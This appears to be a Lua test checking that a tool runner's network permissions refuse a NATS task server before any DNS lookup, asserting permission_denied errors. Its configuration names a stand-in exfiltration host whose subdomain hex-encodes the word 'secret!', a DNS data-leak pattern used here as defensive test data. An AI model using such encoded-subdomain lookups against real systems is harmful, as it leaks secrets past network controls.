-- adversarial: send the run's tasks to a NATS server the permissions refuse, by a name that would leak data through DNS
-- exit: 0
-- options.tasks.nats is reached as tools reach the network: under
-- --allow-net, loopback only by default, a name refused before any lookup.
options = {
  tasks = {backend = "jetstream", nats = "nats://73656372657421.exfil.example:4222"},
  scenarios = {s = {executor = "shared-iterations", exec = "f"}},
  thresholds = {checks = {"rate==1"}},
}

function f()
  local ok, err = pcall(Task.submit, {tool = "calculator", params = {input = "1"}})
  assert(not ok, "a task was queued on a refused NATS server")
  assert(type(err) == "table" and err.type == "permission_denied",
    "want permission_denied, got " .. tostring(type(err) == "table" and err.type or err))
  local ok2, err2 = pcall(Task.stats)
  assert(not ok2 and err2.type == "permission_denied", "Task.stats reached the refused server")
  check(err, {["refused before any connection"] = function(e) return e.message:find("allow%-net") ~= nil end})
end
